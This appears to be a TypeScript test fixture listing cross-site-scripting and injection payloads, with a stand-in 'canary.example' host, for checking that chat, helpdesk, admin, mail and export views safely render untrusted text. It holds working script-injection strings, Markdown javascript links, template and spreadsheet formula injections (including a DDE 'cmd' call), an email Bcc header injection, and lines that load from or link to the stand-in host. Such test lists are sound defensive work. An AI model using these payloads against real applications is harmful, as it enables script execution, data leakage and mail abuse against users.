/** What a script of a stranger would call, and where it would send what it found; no test may see either. */
export const XSS_CANARY = 'canary.example';

/**
 * The one list of texts that have run, or loaded something, in other people's chats, desks, editors, mails and sheets. `XSS()` stands for the script. Every place that shows a stranger's
 * text is tested with all of them: widget, desk, admin, compliance office, mail, export.
 */
export const XSS_PAYLOADS: readonly string[] = [
  '<img src=x onerror=XSS()>', '<script>XSS()</script>', '"><svg onload=XSS()>', `<iframe srcdoc="<script>parent.XSS()</script>">`, '<svg><animate onbegin=XSS() attributeName=x dur=1s>', '<details open ontoggle=XSS()>', '<body onpageshow=XSS()>',
  '<input autofocus onfocus=XSS()>', `<form action=https://${XSS_CANARY}><input name=p autofocus onfocus=XSS()>`, '<math><mtext><table><mglyph><style><img src=x onerror=XSS()>', '<noscript><p title="</noscript><img src=x onerror=XSS()>">', '<a href="jav&#x09;ascript:XSS()">x</a>',
  `<style>@import "https://${XSS_CANARY}/x.css"</style>`, `<link rel=stylesheet href=https://${XSS_CANARY}/x.css>`, `<base href=https://${XSS_CANARY}/>`, `<meta http-equiv=refresh content="0;url=https://${XSS_CANARY}/">`, `<object data=https://${XSS_CANARY}/x.swf>`, '<template><img src=x onerror=XSS()></template>',
  '[链接](javascript:XSS())', '[链接](JaVaScRiPt:XSS())', '[链接](data:text/html,<script>XSS()</script>)', '[链接](vbscript:XSS())', `![图](https://${XSS_CANARY}/pixel.png)`, `![图](https://${XSS_CANARY}/p.png "t" onerror=XSS())`, `[点我](https://${XSS_CANARY}/steal)`, `https://${XSS_CANARY}/bare`,
  `[x](https://yunting.example@${XSS_CANARY}/)`, `<https://${XSS_CANARY}/auto>`, '[a]: javascript:XSS()\n\n[a]', '`<img src=x onerror=XSS()>`', '|a|\n|--|\n|<img src=x onerror=XSS()>|', '> <script>XSS()</script>', '# <img src=x onerror=XSS()>', '**<img src=x onerror=XSS()>**',
  '{{constructor.constructor("XSS()")()}}', '${XSS()}', '<%= XSS() %>', `=HYPERLINK("https://${XSS_CANARY}/","x")`, '@SUM(1+1)*cmd|\' /C calc\'!A0', `-2+3+cmd|' /C calc'!A0`, '＝1+1', `x\r\nBcc: thief@${XSS_CANARY}`, `\u202Egnp.<img src=x onerror=XSS()>`, '\u0001<script\u000c>XSS()</script\u000c>',
];
